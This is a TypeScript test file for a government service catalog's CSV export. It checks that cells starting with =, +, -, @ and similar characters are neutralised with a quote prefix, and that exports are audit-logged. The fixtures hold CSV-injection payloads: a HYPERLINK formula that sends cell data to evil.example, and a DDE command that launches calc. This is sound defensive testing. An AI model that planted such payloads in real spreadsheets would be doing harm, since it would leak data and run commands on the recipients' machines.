import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { type TestApp, testApp } from '../../../../test/helpers/app.ts';
import { buildService, buildTerms } from '../../../../test/helpers/catalog.ts';
import { type Client, signedIn } from '../../../../test/helpers/client.ts';
import { buildAgency, buildUser } from '../../../../test/helpers/factories.ts';

// The catalog's CSV export is opened in spreadsheets by program staff; names and descriptions are
// typed by agency staff. No cell of it may open as a formula.
describe('catalog export: CSV cells never open as formulas', () => {
  let t: TestApp;
  let admin: Client;
  let agencyId: number;
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Renew a passport")';

  before(async () => {
    t = await testApp();
    await buildTerms(t.deps);
    agencyId = (await buildAgency(t.deps, { code: 'gdp' })).id;
    await buildService(t.deps, agencyId, {
      identifier: 'gdp-hostile',
      data: {
        name: { ar: '@SUM(1+1)*cmd|" /C calc"!A0', en: hyperlink },
        description: { ar: '+تجديد جواز السفر عبر المنصة', en: '-2+3 steps to renew a passport online' },
      },
    });
    await buildUser(t.deps, { email: 'aa@gdp.gov.sa', role: 'agency_admin', agencyId });
    admin = await signedIn(t.app, 'aa@gdp.gov.sa');
  });
  after(() => t.close());

  it('prefixes a name such as =HYPERLINK(…) with a single quote; other cells are unchanged', async () => {
    const res = await admin.get(`/en/console/catalog/export?format=csv&agency=${agencyId}`);
    assert.equal(res.statusCode, 200);
    const [head, row] = parse(res.rawPayload, { bom: true }) as string[][];
    const cell = (k: string) => row[head.indexOf(k)];
    assert.equal(cell('name_en'), `'${hyperlink}`);
    assert.equal(cell('name_ar'), '\'@SUM(1+1)*cmd|" /C calc"!A0');
    assert.equal(cell('description_ar'), "'+تجديد جواز السفر عبر المنصة");
    assert.equal(cell('description_en'), "'-2+3 steps to renew a passport online");
    assert.equal(cell('identifier'), 'gdp-hostile');
    assert.equal(cell('agency'), 'gdp');
    for (const c of row) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
  });

  it('every CSV and XLSX export is audited with who took it, the format and the agency', async () => {
    assert.equal((await admin.get(`/en/console/catalog/export?format=xlsx&agency=${agencyId}`)).statusCode, 200);
    const rows = await t.deps.db
      .selectFrom('audit_log')
      .select(['actor_type', 'actor_label', 'agency_id', 'after_json'])
      .where('action', '=', 'catalog.export')
      .orderBy('seq')
      .execute();
    assert.deepEqual(
      rows.map((r) => [r.actor_type, r.agency_id, JSON.parse(r.after_json ?? '{}')]),
      [
        ['user', agencyId, { format: 'csv', agency_id: agencyId, services: 1 }],
        ['user', agencyId, { format: 'xlsx', agency_id: agencyId, services: 1 }],
      ],
    );
    assert.ok(rows.every((r) => r.actor_label?.includes('aa@gdp.gov.sa')));
  });
});
